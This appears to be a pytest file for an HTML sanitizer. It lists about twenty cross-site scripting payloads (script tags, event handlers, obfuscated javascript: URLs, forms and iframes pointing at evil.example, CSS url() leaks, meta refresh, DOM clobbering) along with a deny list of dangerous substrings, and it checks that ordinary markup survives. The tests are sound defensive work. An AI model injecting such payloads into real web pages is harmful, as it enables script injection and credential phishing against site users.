"""The HTML allowlist: what an attacker would try, and what a user needs to keep."""

from __future__ import annotations

import pytest

from autoui.components.sanitize import sanitize_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=p type=password><button>go</button></form>",
    "<style>body{background:url(//evil.example)}</style>",
    '<div style="background:url(//evil.example)">x</div>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" alt="a" onmouseover="alert(1)">',
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '<a id="config" name="x">clobber</a>',
    "<!--<script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_neutralised(attack: str) -> None:
    cleaned = sanitize_html(attack).lower()
    for bad in (
        "<script",
        "javascript:",
        "vbscript:",
        "onerror",
        "onload",
        "onmouseover",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<style",
        "style=",
        "<svg",
        "<math",
        "<base",
        "<link",
        "<meta",
        "data:text",
        "id=",
        "name=",
        "<template",
    ):
        assert bad not in cleaned, (attack, cleaned)


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>Hello <b>bold</b> <i>it</i></p>", "<p>Hello <b>bold</b> <i>it</i></p>"),
        (
            '<a href="https://example.com/a?b=1&amp;c=2">l</a>',
            '<a href="https://example.com/a?b=1&amp;c=2">l</a>',
        ),
        ('<a href="/relative">r</a>', '<a href="/relative">r</a>'),
        ('<a href="mailto:a@b.c">m</a>', '<a href="mailto:a@b.c">m</a>'),
        (
            "<table><tr><td colspan=2>x</td></tr></table>",
            '<table><tr><td colspan="2">x</td></tr></table>',
        ),
        (
            '<img src="data:image/png;base64,AAAA" alt="dot">',
            '<img src="data:image/png;base64,AAAA" alt="dot">',
        ),
        ("<ul><li>a<li>b</ul>", "<ul><li>a<li>b</li></li></ul>"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        (
            "<details open><summary>s</summary>body</details>",
            '<details open=""><summary>s</summary>body</details>',
        ),
    ],
)
def test_ordinary_markup_is_kept(html: str, kept: str) -> None:
    assert sanitize_html(html) == kept


def test_links_opening_new_tabs_get_noopener() -> None:
    assert sanitize_html('<a href="https://x.example" target="_blank">x</a>') == (
        '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>'
    )


def test_unknown_tags_keep_their_text_and_unclosed_tags_are_closed() -> None:
    assert sanitize_html("<custom>text</custom>") == "text"
    assert sanitize_html("<div><p>open") == "<div><p>open</p></div>"
    assert sanitize_html("</div>stray") == "stray"


def test_attribute_values_are_requoted() -> None:
    assert sanitize_html("<abbr title='a\"b<c'>x</abbr>") == '<abbr title="a&quot;b&lt;c">x</abbr>'
